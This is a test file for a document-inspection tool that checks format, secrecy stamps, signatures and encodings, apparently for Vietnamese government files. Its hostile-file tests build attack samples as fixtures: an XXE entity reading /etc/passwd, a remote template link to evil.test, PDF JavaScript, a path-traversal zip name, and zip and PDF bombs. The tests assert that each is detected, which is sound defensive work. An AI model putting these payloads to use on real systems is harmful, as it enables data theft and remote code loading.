import { randomBytes } from "node:crypto";
import test from "ava";
import * as fc from "fast-check";
import { checkFindings } from "#src/core/policy/check-findings";
import type { FileFinding } from "#src/core/policy/file-finding";
import { legalEffectOf } from "#src/core/policy/legal-effect";
import { inspectFile } from "#src/inspection/inspect-file";
import { bufferSource } from "#src/inspection/source";
import { stampIn } from "#src/inspection/stamps";
import { makeDocx, makeOffice, makeZip } from "../support/office.ts";
import { assemble, makePdf, minimalPdf, stream } from "../support/pdf.ts";
import { pdfAuthority, signPdf } from "../support/signed-pdf.ts";

const TRUST = { anchors: [pdfAuthority()], at: new Date("2026-11-22T08:00:00+07:00") };

async function look(name: string, content: Buffer | string): Promise<FileFinding> {
  const bytes = Buffer.from(content);
  return inspectFile(bufferSource(bytes), { name, sha256: "0".repeat(64), size: bytes.length }, TRUST);
}

const PERSON = { commonName: "Nguyễn Văn Đức", organization: "Văn phòng Chính phủ" };
const AGENCY = { commonName: "Văn phòng Chính phủ", organization: "Văn phòng Chính phủ" };

test("HG-4.2b, DN-8.3b: a file is told by its content, whatever its name says", async (t) => {
  const files: readonly (readonly [name: string, content: Buffer | string, detected: string | null])[] = [
    ["a.pdf", minimalPdf(), "pdf"],
    ["a.docx", makeDocx(["Xin chào"]), "docx"],
    ["a.xlsx", makeOffice("xlsx"), "xlsx"],
    ["a.pptx", makeOffice("pptx"), "pptx"],
    ["a.odt", makeZip([{ name: "mimetype", content: "application/vnd.oasis.opendocument.text", packed: false }, { name: "content.xml", content: "<x/>" }]), "odt"],
    ["a.zip", makeZip([{ name: "b.txt", content: "chữ" }]), "zip"],
    ["a.rtf", "{\\rtf1 xin chao}", "rtf"],
    ["a.txt", "Văn bản thuần", "txt"],
    ["a.csv", "STT;Tên\n1;Lan", "txt"],
    ["a.png", Buffer.from("89504e470d0a1a0a0000", "hex"), "png"],
    ["a.jpg", Buffer.from("ffd8ffe000104a46", "hex"), "jpg"],
    ["a.tif", Buffer.from("49492a0008000000", "hex"), "tif"],
  ];
  for (const [name, content, detected] of files) {
    const right = await look(name, content);
    t.deepEqual([right.detected, right.agreement], [detected, "agrees"] as never, name);
    const wrong = await look(name === "a.pdf" ? "a.docx" : "a.pdf", content);
    t.is(wrong.agreement, "differs", name);
    t.is(checkFindings([wrong])[0]?.code, "file-format-not-allowed");
  }
  t.is((await look("a.pdf", "Chỉ là chữ")).agreement, "differs");
  t.is((await look("a.pdf", "%PDF-1.7 rồi chẳng có gì")).agreement, "agrees", "headed as a PDF and broken is a note, not a refusal");
  t.not((await look("a.pdf", "%PDF-1.7 rồi chẳng có gì")).damage, null);
  t.is((await look("a.docx", makeDocx(["x"]).subarray(0, 200))).agreement, "unknown", "a broken package may be what its name says");
});

test("HG-7.3, BG-3.1: a stamp of secrecy is a line of its own in capitals, however it is spaced or composed", (t) => {
  for (const stamp of ["MẬT", "TỐI MẬT", "TUYỆT MẬT", "T Ố I   M Ậ T", "[MẬT]", "– TUYỆT MẬT –", "  MẬT  ", "TỐI MẬT".normalize("NFD"), "MÂ\u0323T", "tèi mËt", "TOÁI MAÄT"]) t.truthy(stampIn(stamp), stamp);
  for (const words of ["bảo mật", "BẢO MẬT", "bí mật", "BÍ MẬT NHÀ NƯỚC", "Mật", "mật", "ĐỘ MẬT: MẬT", "Về việc bảo vệ bí mật nhà nước", "MẬT MÃ", "mật ong", "TỐI"]) t.is(stampIn(words), null, words);
});

test("HG-7.3: a stamp is found on a page of a PDF, in a form, in an annotation, in the header and in a box of a DOCX", async (t) => {
  const [stamp] = (await look("a.pdf", makePdf({ pages: [[{ text: "Trang một" }], [{ text: "CỘNG HÒA", x: 350, y: 740 }, { text: "TUYỆT MẬT", y: 740 }]] }))).stamps;
  t.deepEqual([stamp?.level, stamp?.page], ["tuyet-mat", 2]);
  t.deepEqual((await look("a.pdf", makePdf({ pages: [[{ text: "MẬT", y: 100 }, { text: "Tài liệu về bảo mật và bí mật nhà nước" }]] }))).stamps, [], "at the foot of a page, or in a sentence, it is none");

  const font = "<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Differences [65 /M /Acircumflexdotbelow /T] >> >> >> >>";
  const form = stream("BT /F1 12 Tf 0 0 Td (ABC) Tj ET", `/Type /XObject /Subtype /Form /BBox [0 0 100 20] /Resources ${font}`);
  const page = (extra: string, content: string) =>
    assemble(new Map<number, string | Buffer>([[1, "<< /Type /Catalog /Pages 2 0 R >>"], [2, "<< /Type /Pages /Count 1 /Kids [3 0 R] >>"], [3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${extra} >>`], [4, stream(content)], [5, form]]));
  t.is((await look("a.pdf", page("/Resources << /XObject << /X 5 0 R >> >>", "q 1 0 0 1 60 700 cm /X Do Q"))).stamps[0]?.level, "mat");
  t.is((await look("a.pdf", page("/Annots [<< /Type /Annot /Subtype /Stamp /Rect [60 700 160 720] /AP << /N 5 0 R >> >>]", ""))).stamps[0]?.level, "mat");

  const header = { name: "word/header1.xml", content: "<w:hdr><w:p><w:r><w:rPr><w:caps/></w:rPr><w:t>tối </w:t></w:r><w:r><w:t>MẬT</w:t></w:r></w:p></w:hdr>" };
  t.deepEqual((await look("a.docx", makeDocx(["Nội dung"], [header]))).stamps.map(({ level, part }) => [level, part]), [["toi-mat", "word/header1.xml"]]);
  t.is((await look("a.docx", makeDocx(["VĂN PHÒNG", "TỐI MẬT", "Nội dung"]))).stamps.length, 1);
  t.is((await look("a.docx", makeDocx(["Nội dung về bảo mật"]))).stamps.length, 0);
  t.is((await look("a.zip", makeZip([{ name: "trong/b.docx", content: makeDocx(["MẬT"]) }]))).stamps[0]?.part, "trong/b.docx/word/document.xml", "also inside a zip");
});

test("DN-14.2b, DN-5.1, KD-3.5: signatures of person and agency are read with what they cover, and give the legal effect", async (t) => {
  const person = signPdf(minimalPdf(), PERSON);
  const both = signPdf(person, AGENCY, new Date("2026-11-20T09:00:00+07:00"));
  const finding = await look("cv.pdf", both);
  t.deepEqual(finding.signatures.map(({ kind, signerName, covers }) => ({ kind, signerName, covers })), [
    { kind: "person", signerName: "Nguyễn Văn Đức", covers: "revision" },
    { kind: "agency", signerName: "Văn phòng Chính phủ", covers: "whole" },
  ]);
  t.is(finding.signatures[0]?.signedAt?.toISOString(), "2026-11-20T01:30:00.000Z");
  t.is(finding.signatures[0]?.subFilter, "adbe.pkcs7.detached");
  t.deepEqual(legalEffectOf([finding]), { effect: "full", missing: [], verified: true });

  const missing = (findings: readonly FileFinding[]) => legalEffectOf(findings).missing.map(({ what }) => what);
  t.deepEqual(missing([await look("cv.pdf", minimalPdf())]), ["person-signature", "agency-signature"]);
  t.deepEqual(missing([await look("cv.pdf", person)]), ["agency-signature"]);
  t.deepEqual(missing([finding, await look("pl.pdf", minimalPdf())]), ["attachment-agency-signature"], "a separate appendix needs the agency's own (NĐ 30 PL I.II.8.b)");
  t.deepEqual(missing([finding, await look("pl.pdf", signPdf(minimalPdf(), AGENCY))]), []);
  t.deepEqual(missing([await look("cv.pdf", Buffer.concat([both, Buffer.from("11 0 obj\n<< /Them 1 >>\nendobj\n%%EOF\n")]))]), ["changed-after-signing"]);
  t.deepEqual(missing([await look("cv.docx", makeDocx(["x"]))]), ["main-not-pdf"]);
  t.is((await look("cv.pdf", Buffer.from(both.toString("latin1").replaceAll("/ByteRange [0 ", "/ByteRange [9 "), "latin1"))).signatures[0]?.covers, "broken");
  t.is((await look("cv.pdf", signPdf(minimalPdf(), { commonName: "Hà Thị An", userId: "CCCD:001199000001" }))).signatures[0]?.kind, "person");
});

test("HG-4.1b, QN-4.2b, KD-7.2: text that is not Unicode is named by its code", async (t) => {
  const legacy = await look("a.txt", Buffer.from("C«ng hoµ x· héi chñ nghÜa ViÖt Nam, §éc lËp, Tù do, H¹nh phóc", "latin1"));
  t.deepEqual(legacy.text?.problems.map(({ kind }) => kind), ["not-utf-8", "tcvn3"]);
  t.regex(checkFindings([legacy])[0]?.message ?? "", /TCVN3.*Unicode UTF-8/);
  const vni = await look("a.txt", Buffer.from("Coäng hoøa xaõ hoäi chuû nghóa Vieät Nam, Ñoäc laäp, Töï do, Haïnh phuùc", "latin1"));
  t.deepEqual(vni.text?.problems.map(({ kind }) => kind), ["not-utf-8", "vni"]);
  t.deepEqual((await look("a.txt", "Độc lập – Tự do".normalize("NFD"))).text?.problems.map(({ kind }) => kind), ["not-nfc"]);
  t.deepEqual((await look("a.txt", "Độc lập – Tự do")).text, { encoding: "utf-8", problems: [] });
});

test("HG-4.2c: a zip is looked into, and neither bombs, zips in zips nor programs get through unseen", async (t) => {
  const bomb = await look("a.zip", makeZip([{ name: "to.txt", content: Buffer.alloc(20 * 1024 * 1024) }]));
  t.true(bomb.unread.some(({ reason }) => reason === "compression-ratio"));
  let nested = makeZip([{ name: "x.txt", content: "x" }]);
  for (let depth = 0; depth < 6; depth += 1) nested = makeZip([{ name: "sau.zip", content: nested }]);
  t.true((await look("a.zip", nested)).unread.some(({ reason }) => reason === "too-deep"));
  const program = Buffer.alloc(256);
  program.write("MZ");
  program.writeUInt32LE(128, 60);
  program.write("PE", 128);
  t.regex(checkFindings([await look("a.zip", makeZip([{ name: "chay.pdf", content: program }]))])[0]?.message ?? "", /chương trình “chay.pdf”/);
  t.true((await look("a.zip", makeZip([{ name: "kin.pdf", content: "x", encrypted: true }]))).encrypted);
  t.not((await look("a.zip", makeZip([{ name: "../../ra-ngoai.txt", content: "x" }]))).damage, null, "names that lead out are refused by the reader");
});

test("what acts by itself is named: macros, JavaScript, a DOCTYPE, links that fetch", async (t) => {
  t.is((await look("a.docx", makeDocx(["x"], [{ name: "word/vbaProject.bin", content: "x" }]))).activeContent[0]?.kind, "macros");
  t.is((await look("a.pdf", makePdf({ pages: [[{ text: "x" }]], catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>" }))).activeContent[0]?.kind, "javascript");
  const xxe = await look("a.docx", makeOffice("docx", [{ name: "word/document.xml", content: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document><w:body><w:p><w:r><w:t>&e;MẬT</w:t></w:r></w:p></w:body></w:document>' }]));
  t.is(xxe.activeContent[0]?.kind, "external-content");
  const rels = { name: "word/_rels/settings.xml.rels", content: '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>' };
  t.is((await look("a.docx", makeDocx(["x"], [rels]))).activeContent[0]?.kind, "external-content");
});

test("hostile PDFs give a finding: loops, bombs, lies, nests, locks", async (t) => {
  const objects = (more: readonly (readonly [number, string | Buffer])[]) => assemble(new Map<number, string | Buffer>([[1, "<< /Type /Catalog /Pages 2 0 R >>"], ...more]));
  const loop = await look("a.pdf", objects([[2, "<< /Type /Pages /Count 9 /Kids [2 0 R 3 0 R] >>"], [3, "<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R >>"], [4, "4 0 R"]]));
  t.is(loop.detected, "pdf");
  const bomb = await look("a.pdf", objects([[2, "<< /Type /Pages /Count 1 /Kids [3 0 R] >>"], [3, "<< /Type /Page /MediaBox [0 0 595 842] /Contents 4 0 R >>"], [4, stream(Buffer.alloc(60 * 1024 * 1024, " "))]]));
  t.true(bomb.unread.some(({ reason }) => reason === "too-large"));
  t.not((await look("a.pdf", Buffer.concat([Buffer.from("%PDF-1.7\n1 0 obj\n"), Buffer.from("[".repeat(200_000))]))).damage, null);
  const form = stream("/X Do /X Do /X Do /X Do /X Do /X Do /X Do", "/Type /XObject /Subtype /Form /Resources << /XObject << /X 5 0 R >> >>");
  t.is((await look("a.pdf", objects([[2, "<< /Type /Pages /Count 1 /Kids [3 0 R] >>"], [3, "<< /Type /Page /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /XObject << /X 5 0 R >> >> >>"], [5, form]]))).detected, "pdf", "a form that draws itself");
  const locked = await look("a.pdf", makePdf({ pages: [[{ text: "MẬT" }]], trailer: "/Encrypt 9 0 R" }));
  t.deepEqual([locked.encrypted, locked.unread[0]?.reason], [true, "encrypted"]);
  const broken = signPdf(minimalPdf(), PERSON).toString("latin1").replace(/\/Contents <[0-9a-f]{200}/, (found) => found.replaceAll(/[0-9]/g, "f"));
  t.is((await look("a.pdf", Buffer.from(broken, "latin1"))).signatures[0]?.kind, "unknown", "a CMS nobody can read");
});

test("whatever bytes a file has, inspection answers", async (t) => {
  const seeds = [signPdf(makePdf({ pages: [[{ text: "TỐI MẬT" }], [{ text: "b" }]] }), AGENCY), makeDocx(["MẬT", "x"]), makeZip([{ name: "a.pdf", content: minimalPdf() }]), Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), randomBytes(4_000)])];
  await t.notThrowsAsync(
    fc.assert(
      fc.asyncProperty(fc.constantFrom(...seeds), fc.array(fc.tuple(fc.nat(20_000), fc.integer({ min: 0, max: 255 })), { maxLength: 40 }), fc.nat(20_000), async (seed, changes, cut) => {
        const bytes = Buffer.from(seed);
        for (const [at, value] of changes) bytes[at % bytes.length] = value;
        const spoiled = cut % 3 === 0 ? bytes.subarray(0, cut % bytes.length) : bytes;
        const finding = await look("a.pdf", spoiled);
        return Array.isArray(finding.unread);
      }),
      { numRuns: 200 },
    ),
  );
});
